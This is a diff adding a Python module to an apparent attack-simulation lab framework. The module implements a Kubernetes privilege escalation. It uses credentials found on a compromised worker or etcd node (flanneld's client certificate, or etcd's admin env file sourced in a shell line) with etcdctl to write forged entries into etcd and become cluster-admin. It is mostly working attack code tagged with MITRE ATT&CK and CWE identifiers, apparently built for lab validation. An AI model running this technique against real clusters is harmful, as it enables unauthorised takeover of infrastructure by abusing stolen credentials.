@@ -1,0 +1,114 @@
+"""Become cluster-admin by writing into etcd with a credential that lies on the machine.
+
+On a worker that is flanneld's, on a machine of etcd it is that of etcd's own administrator:
+what keeps the first to its own keys (etcd's users) is no help against the second.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import TYPE_CHECKING
+
+from labkit.errors import ProbeError, ProbeTimeout
+from labkit.model import Channel, View, credential
+from labkit.techniques import _forge
+from labkit.techniques._base import (
+    ADMIN,
+    ROOT_ON_ETCD,
+    ROOT_ON_WORKER,
+    Prediction,
+    Technique,
+)
+from labkit.techniques._reach import Answer, inside, run_from
+from labkit.techniques._verdict import Verdict
+
+if TYPE_CHECKING:
+    from labkit.lab import Lab, Output
+
+__all__ = ["TECHNIQUE"]
+
+CHANNEL = "flanneld@worker1 -> etcd@*"
+TAKEN = "etcd takes it from whoever holds this credential; Kubernetes believes etcd"
+#: What etcd says to somebody whom it does not let write there.
+REFUSAL = "permission denied"
+AS_ROOT = 'set -a; . /etc/etcd/etcdctl.env; exec etcdctl --command-timeout=4s "$@"'
+
+
+@dataclass(frozen=True, slots=True)
+class _Held:
+    """etcd, asked with etcdctl and what the machine holds."""
+
+    lab: Lab
+    foothold: str
+    argv: tuple[str, ...]
+
+    def put(self, key: str, value: bytes) -> Answer:
+        output = self._run("put", key, stdin=value)
+        if output.exit_code and REFUSAL not in output.error:
+            raise ProbeError("etcd's answer says nothing", evidence=_tail(output))
+        return Answer(0, b"", f"etcd: {REFUSAL}" if output.exit_code else "")
+
+    def get(self, key: str) -> bytes:
+        return self._run("get", "--print-value-only", key).stdout
+
+    def delete(self, key: str) -> None:
+        self._run("del", key)
+
+    def _run(self, *arguments: str, stdin: bytes | None = None) -> Output:
+        output = run_from(self.lab, self.foothold, [*self.argv, *arguments], stdin=stdin)
+        if "context deadline exceeded" in output.error:
+            raise ProbeTimeout("etcd did not answer", evidence=_tail(output))
+        return output
+
+
+def predict(view: View, foothold: str) -> Prediction:
+    """Say what the model says: how far etcd opens to what the machine holds."""
+    claim = view.channels(CHANNEL)[0].authorization
+    if foothold == ROOT_ON_ETCD:
+        return Prediction(True, (f"etcd's administrator writes everything: {claim.source}",))
+    return Prediction(claim.value == "allow-all", (str(claim),))
+
+
+def execute(lab: Lab, foothold: str) -> Verdict:
+    """Write a request that nobody approved, and have it signed."""
+    if foothold == ROOT_ON_ETCD:
+        store = _Held(lab, foothold, ("sh", "-c", AS_ROOT, "etcdctl"))
+        how = "as etcd's administrator"
+    else:
+        view = View(lab.environment)
+        channel = view.channels(CHANNEL)[0]
+        store = _Held(lab, foothold, tuple(_as_flanneld(lab, view, channel)))
+        how = "as flanneld"
+    return _forge.forge(lab, TECHNIQUE.name, foothold, store, how, TAKEN)
+
+
+def _as_flanneld(lab: Lab, view: View, channel: Channel) -> list[str]:
+    server = channel.server.partition("@")[2]
+    inside(lab, server)
+    argv = ["etcdctl", "--command-timeout=4s"]
+    argv.append(f"--endpoints={channel.protocol}://{server}:{channel.port}")
+    if held := credential(view.graph, channel):
+        authority = next(a for a in lab.environment.authorities if a.name == held.signed_by)
+        argv += [f"--cert={held.certificate}", f"--key={held.key}"]
+        argv.append(f"--cacert={authority.certificate}")
+    return argv
+
+
+def _tail(output: Output) -> list[str]:
+    return output.error.strip().splitlines()[-3:]
+
+
+TECHNIQUE = Technique(
+    name="etcd-forge-credential",
+    title="Become cluster-admin by writing into etcd with what the machine holds",
+    footholds=(ROOT_ON_WORKER, ROOT_ON_ETCD),
+    grants=(ADMIN,),
+    about="flanneld@* -> etcd@*",
+    properties=("client_authentication", "authorization"),
+    attack=("T1565.001", "T1552.004", "T1098"),
+    stride=("tampering", "elevation of privilege"),
+    cwe=("CWE-269", "CWE-345"),
+    sources=(*_forge.SOURCES, "https://etcd.io/docs/latest/op-guide/authentication/rbac/"),
+    predict=predict,
+    execute=execute,
+)
